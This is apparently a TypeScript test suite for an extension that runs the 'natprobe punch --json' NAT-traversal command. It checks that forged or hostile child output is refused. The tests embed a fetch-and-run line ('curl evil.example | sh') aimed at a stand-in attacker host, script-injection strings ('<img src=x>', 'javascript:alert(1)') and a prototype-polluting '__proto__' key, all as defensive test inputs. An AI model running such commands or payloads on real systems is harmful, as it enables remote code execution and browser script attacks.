import assert from 'node:assert/strict';
import type { ChildProcess } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { newCode } from '../../src/engine/punch/code';
import { parsePunchOutput } from '../../src/extension/punch/punchOutput';
import { runPunchProcess } from '../../src/extension/punch/punchProcess';
import { CLI, serve } from './serve';

/**
 * What the extension's punch runner accepts from `natprobe punch --json`. The child is another
 * process whose output becomes a toast and the panel's "Direct path to a peer": a stand-in CLI
 * that prints a chosen document plays a broken or hostile child, and nothing reaches the panel
 * unless every field has its type, a sane size, and agrees with the rest and the exit code.
 */
describe('the extension\'s punch runner checks every field of natprobe punch --json', () => {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'natprobe-fake-punch-'));
  after(() => fs.rmSync(dir, { recursive: true, force: true }));

  const good = {
    direct: 'yes',
    reason: 'a check and its answer crossed srflx↔srflx',
    pair: { kind: 'srflx↔srflx', local: '192.0.2.1:40213', remote: '203.0.113.1:51002' },
    ms: 112,
    rttMs: 1.8,
    prediction: { direct: 'yes', reason: 'both map endpoint-independently' },
    agrees: 'yes',
    packets: { sent: 14, received: 9, lowTtl: 3 },
    symmetric: { ownMapping: 'unknown', packets: 0 },
    rendezvous: 'reached',
    contacted: [
      { address: '198.51.100.1', port: 3478, role: 'rendezvous', packets: 2 },
      { address: '203.0.113.1', port: 51002, role: 'peer', packets: 12 },
    ],
  };
  const noPath = { ...good, direct: 'no', pair: null, ms: null, rttMs: null, agrees: 'no', reason: 'no check was answered in 10 s' };

  let n = 0;
  /** Runs the runner against a stand-in CLI that writes `stderr`, prints `stdout` and exits with `code`. */
  function runWith(stdout: string, code: number, stderr = '', extra: { onCode?: (c: string) => void; code?: string } = {}) {
    const cli = path.join(dir, `cli${n++}.js`);
    fs.writeFileSync(cli, `process.stderr.write(${JSON.stringify(stderr)});\nprocess.stdout.write(${JSON.stringify(stdout)});\nprocess.exitCode = ${code};\n`);
    return runPunchProcess({ cli, via: '127.0.0.1:3478', ...extra });
  }

  it('a well-formed run comes through, with only the fields the extension uses', async () => {
    const run = await runWith(JSON.stringify({ ...good, extra: 'ignored' }), 0);
    assert.equal(run.kind, 'done');
    if (run.kind !== 'done') return;
    assert.deepEqual(run.output.pair, good.pair);
    assert.equal(run.output.rttMs, 1.8);
    assert.equal((run.output as unknown as Record<string, unknown>).extra, undefined);
    const no = await runWith(JSON.stringify(noPath), 1);
    assert.equal(no.kind === 'done' && no.output.direct, 'no');
  });

  it('a run with --turn comes through: TURN servers in contacted (role "TURN server"); relay, relays and peerRelays are not passed on', async () => {
    const withTurn = { ...noPath, contacted: [...good.contacted, { address: '198.51.100.4', port: 3478, role: 'TURN server', packets: 4 }], relay: { url: 'turn:198.51.100.4:3478' }, relays: [], peerRelays: [] };
    const run = await runWith(JSON.stringify(withTurn), 1);
    assert.equal(run.kind, 'done');
    if (run.kind !== 'done') return;
    assert.equal(run.output.contacted[2].role, 'TURN server');
    assert.equal((run.output as unknown as Record<string, unknown>).relays, undefined);
  });

  it('start: the fresh code on stderr is passed on once it reads as a code; anything else on a Code: line is not', async () => {
    const code = newCode();
    const seen: string[] = [];
    await runWith(JSON.stringify(noPath), 1, `Code: ${code}\nOn the peer, within 60 s: natprobe punch --via x --code ${code}\n`, { onCode: (c) => seen.push(c) });
    assert.deepEqual(seen, [code]);
    // The attack: a child that puts a link or a command where the code goes (it would be copied and shown).
    const hostile: string[] = [];
    await runWith(JSON.stringify(noPath), 1, 'Code: curl evil.example | sh\n', { onCode: (c) => hostile.push(c) });
    assert.deepEqual(hostile, []);
  });

  // The attacks: each output below is wrong in one place; the run is refused with where.
  const attacks: [string, string, number, RegExp][] = [
    ['not JSON at all', 'Direct path: yes', 0, /not JSON/],
    ['a list instead of the object', '[]', 0, /expected an object/],
    ['a direct answer nobody expects ("true")', JSON.stringify({ ...good, direct: true }), 0, /direct: expected one of yes, no, unknown/],
    ['a pair kind that is not a candidate pair', JSON.stringify({ ...good, pair: { ...good.pair, kind: '<img src=x>' } }), 0, /pair\.kind: expected one of/],
    ['an address that is not host:port', JSON.stringify({ ...good, pair: { ...good.pair, remote: 'javascript:alert(1)' } }), 0, /pair\.remote: expected host:port/],
    ['a negative RTT', JSON.stringify({ ...good, rttMs: -1 }), 0, /rttMs: -1 ms is out of range/],
    ['an RTT as text', JSON.stringify({ ...good, rttMs: '1.8' }), 0, /rttMs: expected a finite number/],
    ['a reason of 100,000 characters (a toast flood)', JSON.stringify({ ...good, reason: 'x'.repeat(100_000) }), 0, /reason: longer than 2000 characters/],
    ['a packet count far past punch\'s cap', JSON.stringify({ ...good, packets: { ...good.packets, sent: 1e9 } }), 0, /packets\.sent: .* more than punch ever sends/],
    ['a contact role punch never writes', JSON.stringify({ ...good, contacted: [{ ...good.contacted[0], role: 'relay of the attacker' }] }), 0, /contacted\[0\]\.role: expected one of/],
    ['a thousand contacts', JSON.stringify({ ...good, contacted: Array.from({ length: 1000 }, () => good.contacted[0]) }), 0, /contacted: more than 64 entries/],
    ['a prediction without its reason', JSON.stringify({ ...good, prediction: { direct: 'yes' } }), 0, /prediction\.reason: expected a string/],
    ['a family that is neither 4 nor 6', JSON.stringify({ ...good, pair: { ...good.pair, family: 5 } }), 0, /pair\.family: expected 4 or 6/],
    ['IPv6 claimed over an IPv4 pair', JSON.stringify({ ...good, pair: { ...good.pair, family: 6 } }), 0, /pair\.family is 6 but the pair's remote address is 203\.0\.113\.1:51002/],
    ['IPv4 claimed over an IPv6 pair', JSON.stringify({ ...good, pair: { kind: 'host↔host', family: 4, local: '[2001:db8:a::10]:40000', remote: '[2001:db8:b::20]:40001' } }), 0, /pair\.family is 4/],
    ['"yes" with no pair (a path claimed, none named)', JSON.stringify({ ...good, pair: null }), 0, /direct is yes but the pair/],
    ['"no" that still names a pair', JSON.stringify({ ...noPath, pair: good.pair }), 1, /direct is no but a pair is named/],
    ['agrees that contradicts the proof and the prediction', JSON.stringify({ ...good, agrees: 'no' }), 0, /agrees is no/],
    ['exit 0 (a path) with direct no', JSON.stringify(noPath), 0, /exit code 0 with direct no/],
    ['exit 1 (no path) with direct yes', JSON.stringify(good), 1, /exit code 1 with direct yes/],
  ];
  for (const [what, stdout, code, message] of attacks) {
    it(`refused: ${what}`, async () => {
      await assert.rejects(runWith(stdout, code), message);
    });
  }

  it('refused: output past the size any result has (the child is stopped, not read to the end)', async () => {
    const cli = path.join(dir, 'flood.js');
    fs.writeFileSync(cli, 'const b = "x".repeat(65536); const w = () => { while (process.stdout.write(b)); process.stdout.once("drain", w); }; w();\n');
    await assert.rejects(runPunchProcess({ cli, via: '127.0.0.1:3478' }), /far more than one result/);
  });

  it('exit 2: the child\'s own sentence; exit 3 with nothing printed: the rendezvous could not be reached', async () => {
    await assert.rejects(runWith('', 2, 'natprobe: --via bad port\n'), /^Error: --via bad port$/);
    await assert.rejects(runWith('', 3, 'natprobe: nowhere.invalid did not resolve\n'), /the rendezvous could not be reached: nowhere\.invalid did not resolve/);
  });

  it('join: the code reaches the child in NATPROBE_PUNCH_CODE, never on its command line (other users can read that)', async () => {
    const code = newCode();
    const cli = path.join(dir, `cli${n++}.js`);
    // The stand-in prints what it was given as its result's reason.
    fs.writeFileSync(
      cli,
      `process.stdout.write(JSON.stringify({ ...${JSON.stringify(noPath)}, reason: JSON.stringify({ argv: process.argv.slice(2), env: process.env.NATPROBE_PUNCH_CODE }) }));\nprocess.exitCode = 1;\n`,
    );
    const run = await runPunchProcess({ cli, via: '127.0.0.1:3478', code });
    assert.equal(run.kind, 'done', JSON.stringify(run));
    const seen = JSON.parse(run.kind === 'done' ? run.output.reason : '{}') as { argv: string[]; env: string };
    assert.equal(seen.env, code);
    assert.ok(!seen.argv.some((a) => a.includes(code.split('-')[0])), JSON.stringify(seen.argv));
  });

  it('a code that is not a code never becomes an argument', async () => {
    await assert.rejects(runPunchProcess({ cli: CLI, via: '127.0.0.1:3478', code: '--via=198.51.100.1' }), /a code is 6 words/);
  });

  it('cancelled: the child is interrupted and the run says so', async () => {
    const cli = path.join(dir, 'slow.js');
    fs.writeFileSync(cli, 'setTimeout(() => {}, 60000);\n');
    const abort = new AbortController();
    setTimeout(() => abort.abort(), 200);
    const run = await runPunchProcess({ cli, via: '127.0.0.1:3478', signal: abort.signal });
    assert.equal(run.kind, 'cancelled');
  });

  it('an IPv6 pair comes through with its family; a run from before IPv6 (no family) still does', () => {
    const v6 = { ...good, pair: { kind: 'host↔host', family: 6, local: '[2001:db8:a::10]:40000', remote: '[2001:db8:b::20]:40001' }, contacted: [...good.contacted, { address: '2001:db8:b::20', port: 40001, role: 'peer', packets: 3 }] };
    const parsed = parsePunchOutput(v6);
    assert.ok(parsed.ok);
    assert.deepEqual(parsed.output.pair, v6.pair);
    const old = parsePunchOutput(good);
    assert.ok(old.ok);
    assert.equal(old.output.pair?.family, undefined);
  });

  it('the parser alone: a prototype-polluting key is just an unknown field, and not passed on', () => {
    const parsed = parsePunchOutput(JSON.parse(`{"__proto__": {"polluted": 1}, ${JSON.stringify(noPath).slice(1)}`));
    assert.ok(parsed.ok);
    assert.equal(({} as Record<string, unknown>).polluted, undefined);
  });
});

describe('the extension\'s punch runner against the real CLI and serve --rendezvous on loopback', function () {
  this.timeout(40_000);
  let server: ChildProcess | undefined;
  const port = 35000 + Math.floor(Math.random() * 5000);
  before(async () => {
    server = await serve(['--primary', `127.0.0.1:${port}`, '--rendezvous']);
  });
  after(() => server?.kill('SIGTERM'));

  it('start (the code comes through onCode) and join (a second child with that code): both prove a direct path', async () => {
    let joined: Promise<Awaited<ReturnType<typeof runPunchProcess>>> | undefined;
    const started = runPunchProcess({
      cli: CLI,
      via: `127.0.0.1:${port}`,
      onCode: (code) => {
        joined = runPunchProcess({ cli: CLI, via: `127.0.0.1:${port}`, code });
      },
    });
    const a = await started;
    assert.ok(joined, 'the code was never passed on');
    const b = await joined;
    for (const r of [a, b]) {
      assert.equal(r.kind, 'done');
      if (r.kind !== 'done') return;
      assert.equal(r.output.direct, 'yes', r.output.reason);
      // Loopback: punch declares no interface addresses there, so the pair is the rendezvous-seen one.
      assert.equal(r.output.pair?.kind, 'srflx↔srflx');
      assert.equal(r.output.rendezvous, 'reached');
      assert.ok(r.output.rttMs !== null && r.output.rttMs >= 0);
    }
  });
});
